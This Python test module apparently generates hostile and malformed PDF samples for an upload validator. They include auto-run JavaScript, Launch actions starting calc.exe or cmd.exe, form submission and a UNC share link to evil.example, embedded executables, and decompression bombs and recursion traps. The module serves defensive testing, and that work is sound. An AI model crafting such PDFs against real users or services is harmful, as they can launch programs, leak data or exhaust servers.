"""PDFs that unpack to too much, act by themselves, carry other files, are locked, or cannot be read."""

import base64
import io
import struct
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tests.trials.uploads.bombs import lzw_zeros, runs, zeros
from tests.trials.uploads.papers import (
    PAGE,
    TEXT,
    pages_of,
    paper,
    saved,
    stream,
    with_object_stream,
    written,
)
from tests.trials.uploads.pictures import jpeg
from tests.trials.uploads.sample import Sample, bad

_NAME = "書類.pdf"
_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_FLATE = b"/Filter/FlateDecode"
_TABLE = b"%%PDF-1.5\n1 0 obj\n%s\nendobj\nstartxref\n9\n%%%%EOF\n"


def bad_papers() -> Iterator[Sample]:
    whole = paper()
    for part in range(1, 25):
        yield bad(f"PDF cut off at {part}/24", _NAME, whole[: 9 + (len(whole) - 20) * part // 24])
    yield from _locked()
    yield from _acting()
    yield from _carrying()
    yield from _bombs()
    yield from _floods()
    yield from _pictures()
    yield from _unreadable()


def _locked() -> Iterator[Sample]:
    for method in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        for what, user in (("to open", "secret"), ("to print", "")):
            writer = pages_of(1)
            writer.encrypt(user, "owner", algorithm=method)
            yield bad(f"PDF locked with {method}, a password {what}", _NAME, saved(writer))


def _acting() -> Iterator[Sample]:
    acts = {
        "JavaScript": _SCRIPT,
        "JavaScript in a stream": b"<</S/JavaScript/JS 9 0 R>>",
        "JavaScript, its name disguised": b"<</S/J#61vaScr#69pt/JS(1)>>",
        "JavaScript after a step": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>",
        "JavaScript after steps": b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>>" + _SCRIPT + b"]>>",
        "a program": b"<</S/Launch/F(calc.exe)>>",
        "a program of Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "an address": b"<</S/URI/URI(https://evil.example/)>>",
        "sending a form": b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>",
        "another file": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>",
        "taking data in": b"<</S/ImportData/F(data.fdf)>>",
        "an embedded file": b"<</S/GoToE/T<</R/C/N(evil.pdf)>>>>",
        "a film": b"<</S/Rendition/OP 0>>",
    }
    for what, act in acts.items():
        more = {8: act, 9: stream(b"app.alert(1)")}
        yield bad(f"PDF that opens with {what}", _NAME, paper(catalogue=b"/OpenAction 8 0 R", more=more))
        yield bad(f"PDF, {what} on its page", _NAME, paper(page=b"/AA<</O 8 0 R>>", more=more))
        yield bad(f"PDF, {what} when it closes", _NAME, paper(catalogue=b"/AA<</WC 8 0 R>>", more=more))
        hidden = {1: _CATALOGUE % b"/OpenAction 8 0 R", 2: _PAGES, 3: PAGE, 8: act}
        plain = {4: stream(TEXT), 9: stream(b"app.alert(1)")}
        yield bad(f"PDF, {what} in packed objects", _NAME, with_object_stream(plain, hidden))
    names = b"/Names<</JavaScript<</Names[(a) 8 0 R]>>>>"
    yield bad("PDF with scripts by name", _NAME, paper(catalogue=names, more={8: _SCRIPT}))
    kids = b"/Names<</JavaScript<</Kids[7 0 R]>>>>"
    tree = {7: b"<</Names[(a) 8 0 R]/Limits[(a)(a)]>>", 8: _SCRIPT}
    yield bad("PDF with scripts by name, deeper", _NAME, paper(catalogue=kids, more=tree))
    for what in ("a program", "a program of Windows", "taking data in", "an embedded file", "a film"):
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A " + acts[what] + b">>"
        yield bad(
            f"PDF whose page is one link to {what}", _NAME, paper(page=b"/Annots[5 0 R]", more={5: link})
        )
    writer = pages_of(1)
    writer.add_open_action(JavaScript("this.print();"))
    yield bad("PDF with a script, written by a library", _NAME, saved(writer))


def _carrying() -> Iterator[Sample]:
    writer = pages_of(1)
    writer.add_attachment("evil.exe", b"MZ" + bytes(500))
    yield bad("PDF with a program in it", _NAME, saved(writer))
    writer = pages_of(1)
    writer.add_attachment("book.xlsm", b"PK\3\4" + bytes(500))
    yield bad("PDF with a workbook in it", _NAME, saved(writer))
    collection = b"/Collection<</View/T>>"
    yield bad("PDF that is a folder of files", _NAME, paper(catalogue=collection))
    for kind in ("FileAttachment", "RichMedia", "Movie", "Screen", "Sound", "3D"):
        note = b"<</Type/Annot/Subtype/%s/Rect[0 0 9 9]/FS 6 0 R>>" % kind.encode()
        more = {5: note, 6: b"<</F(a)/EF<</F 7 0 R>>>>", 7: stream(b"MZ", b"/Type/EmbeddedFile")}
        yield bad(f"PDF with a {kind} on its page", _NAME, paper(page=b"/Annots[5 0 R]", more=more))


def _bombs() -> Iterator[Sample]:
    made: dict[str, tuple[Callable[[], bytes], bytes]] = {
        "400 MB": (_large, _FLATE),
        "400 MB, the name short": (_large, b"/Filter/Fl"),
        "400 MB, the name disguised": (_large, b"/Filter/Fl#61teDecode"),
        "400 MB, no filter said": (_large, b""),
        "2 GB, packed twice": (lambda: zlib.compress(zeros(2_000), 9), b"/Filter[/FlateDecode/FlateDecode]"),
        "9 GB, packed three times": (_thrice, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"),
        "400 MB in hexadecimal": (
            lambda: _large().hex().encode() + b">",
            b"/Filter[/ASCIIHexDecode/FlateDecode]",
        ),
        "400 MB in ASCII85": (lambda: base64.a85encode(_large()) + b"~>", b"/Filter[/A85/Fl]"),
        "LZW": (lambda: lzw_zeros(160_000), b"/Filter/LZWDecode"),
        "RunLength": (lambda: runs(300), b"/Filter/RunLengthDecode"),
    }
    for what, (body, filters) in made.items():
        yield bad(f"PDF whose page unpacks to {what}", _NAME, partial(_unpacking, body, filters), heavy=True)
    yield bad("PDF whose page unpacks to 400 MB, its length a lie", _NAME, _lying, heavy=True)
    chain = {
        "eight filters": b"/Filter[" + b"/FlateDecode" * 8 + b"]",
        "sixty filters": b"/Filter[" + b"/ASCIIHexDecode" * 60 + b"]",
        "LZW and Flate": b"/Filter[/LZWDecode/FlateDecode]",
        "runs of runs": b"/Filter[/RunLengthDecode/RunLengthDecode]",
    }
    for what, filters in chain.items():
        yield bad(f"PDF packed with {what}", _NAME, paper(contents=stream(zlib.compress(TEXT), filters)))
    yield bad("PDF of eight streams of 100 MB", _NAME, _eight, heavy=True)
    plain, hidden = {4: stream(TEXT)}, {1: _CATALOGUE % b"", 2: _PAGES, 3: PAGE}
    for size in (100, 400):
        packed_as = partial(zeros, size)
        content = partial(lambda body: with_object_stream(plain, hidden, body()), packed_as)
        yield bad(f"PDF whose objects unpack to {size} MB", _NAME, content, heavy=True)
    entries = b"/Type/XRef/W[1 4 1]/Root 1 0 R/Size 99999999" + _FLATE
    yield bad(
        "PDF whose table unpacks to 400 MB", _NAME, lambda: _TABLE % stream(_large(), entries), heavy=True
    )
    lines = stream(zeros(30), b"/Type/XRef/W[1 1 1]/Root 1 0 R/Size 9999999" + _FLATE)
    yield bad("PDF whose table has ten million lines", _NAME, _TABLE % lines)
    small = {number: stream(b"x") for number in range(5, 35_005)}
    yield bad("PDF of 35,000 streams", _NAME, lambda: paper(more=small), heavy=True)


def _large() -> bytes:
    return zeros(400)


def _thrice() -> bytes:
    return zlib.compress(zlib.compress(zeros(9_000), 9), 9)


def _unpacking(body: Callable[[], bytes], filters: bytes) -> bytes:
    return paper(contents=stream(body(), filters))


def _lying() -> bytes:
    return _unpacking(_large, _FLATE).replace(b"/Length ", b"/Length 0", 1)


def _eight() -> bytes:
    once = stream(zeros(100), _FLATE)
    return paper(more=dict.fromkeys(range(5, 13), once))


def _floods() -> Iterator[Sample]:
    for count in (301, 400, 2_000):
        yield bad(f"PDF of {count} pages", _NAME, saved(pages_of(count)))
    for count in (301, 20_000, 300_000):
        kids = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count)
        yield bad(f"PDF of {count} times one page", _NAME, paper(pages=kids))
    yield bad("PDF whose pages hold themselves", _NAME, paper(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"))
    ring = {5: b"<</Type/Pages/Kids[6 0 R]/Count 1>>", 6: b"<</Type/Pages/Kids[5 0 R]/Count 1>>"}
    yield bad(
        "PDF whose pages go round", _NAME, paper(pages=b"<</Type/Pages/Kids[5 0 R]/Count 1>>", more=ring)
    )
    deep = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(5, 3_000)}
    deep[3_000] = PAGE
    yield bad(
        "PDF whose pages lie 3,000 deep",
        _NAME,
        paper(pages=b"<</Type/Pages/Kids[5 0 R]/Count 1>>", more=deep),
    )
    fan = {n: b"<</Type/Pages/Kids[%s]/Count 9>>" % (b"%d 0 R " % (n + 1) * 20) for n in range(5, 25)}
    fan[25] = PAGE
    yield bad(
        "PDF whose pages branch 20 times 20 deep",
        _NAME,
        paper(pages=b"<</Type/Pages/Kids[5 0 R]/Count 9>>", more=fan),
    )
    notes = b"/Annots[" + b"5 0 R " * 60_000 + b"]"
    yield bad("PDF of 60,000 remarks", _NAME, paper(page=notes, more={5: b"<</Subtype/Text>>"}))
    steps = b"<</S/GoTo/D[3 0 R/Fit]/Next 8 0 R>>"
    yield bad(
        "PDF whose first step leads to itself", _NAME, paper(catalogue=b"/OpenAction 8 0 R", more={8: steps})
    )


def _pictures() -> Iterator[Sample]:
    image = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8"
    resources = b"/Resources<</XObject<</I 5 0 R>>>>"

    def with_picture(body: bytes, entries: bytes, more: dict[int, bytes] | None = None) -> bytes:
        return paper(page=resources, more={5: stream(body, image + entries), **(more or {})})

    small, photo = zlib.compress(bytes(100)), bytearray(jpeg())
    for size in ((100_000, 100_000), (60_000_001, 1), (8_000, 8_000)):
        yield bad(
            f"PDF with a picture of {size}",
            _NAME,
            with_picture(small, b"/Width %d/Height %d" % size + _FLATE),
        )
    kept = b"/Width 6 0 R/Height 7 0 R" + _FLATE
    yield bad(
        "PDF with a picture, its size elsewhere", _NAME, with_picture(small, kept, {6: b"99999", 7: b"99999"})
    )
    frame = photo.index(b"\xff\xc0")
    photo[frame + 5 : frame + 9] = struct.pack(">HH", 65_535, 65_535)
    entries = b"/Width 64/Height 48/Filter/DCTDecode"
    yield bad("PDF with a photograph that is larger inside", _NAME, with_picture(bytes(photo), entries))
    photo[frame + 5 : frame + 9] = struct.pack(">HH", 9_000, 9_000)
    yield bad("PDF with a photograph, somewhat larger inside", _NAME, with_picture(bytes(photo), entries))


def _unreadable() -> Iterator[Sample]:
    yield bad("PDF of no pages", _NAME, saved(PdfWriter()))
    yield bad("PDF of nothing but its marks", _NAME, b"%PDF-1.4\n%%EOF")
    yield bad("PDF of no objects", _NAME, b"%PDF-1.4\nxref\n0 0\ntrailer\n<</Size 0>>\nstartxref\n9\n%%EOF\n")
    yield bad("PDF of text", _NAME, b"%PDF-1.7\n" + "普通の文章です。".encode() * 400 + b"\n%%EOF\n")
    roots = {"a number": b"7", "a page": PAGE, "nothing": b"null", "itself": b"1 0 R", "a list": b"[1 0 R]"}
    for what, root in roots.items():
        yield bad(f"PDF whose root is {what}", _NAME, written({1: root, 4: stream(TEXT)}))
    trees = {"a number": b"7", "nothing": b"null", "text": b"(pages)", "empty": b"<</Type/Pages/Kids[]/Count 0>>",
             "kids of numbers": b"<</Type/Pages/Kids[1 2 3]/Count 3>>", "a lie": b"<</Type/Pages/Kids[]/Count 1>>",
             "kids that are text": b"<</Type/Pages/Kids(abc)/Count 1>>"}  # fmt: skip
    for what, tree in trees.items():
        yield bad(f"PDF whose pages are {what}", _NAME, paper(pages=tree))
    yield bad(
        "PDF with lists 100,000 deep",
        _NAME,
        paper(catalogue=b"/OpenAction " + b"[" * 100_000 + b"]" * 100_000),
    )
    yield bad("PDF with tables 50,000 deep", _NAME, paper(pages=b"<</A" * 50_000 + b">>" * 50_000))
    deep, plain = b"<</A" * 50_000 + b">>" * 50_000, {4: stream(TEXT)}
    packed_deep = {1: _CATALOGUE % b"/OpenAction 8 0 R", 2: _PAGES, 3: PAGE, 8: deep}
    yield bad("PDF with tables 50,000 deep in packed objects", _NAME, with_object_stream(plain, packed_deep))
    loop = b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF\n"
    yield bad("PDF whose table leads to itself", _NAME, loop)
    body = io.BytesIO(b"%PDF-1.7\n" + b"1 0 obj\n" * 200_000 + b"%%EOF")
    yield bad("PDF of beginnings", _NAME, body.getvalue())
    yield bad("PDF of ends", _NAME, b"%PDF-1.7\n" + b"endobj endstream\n" * 200_000 + b"%%EOF")
    yield bad(
        "PDF of streams without an end", _NAME, b"%PDF-1.7\n" + b"1 0 obj<<>>stream\n" * 50_000 + b"%%EOF"
    )
    yield bad("PDF of numbers", _NAME, b"%PDF-1.7\nstartxref\n" + b"9" * 100_000 + b"\n%%EOF")
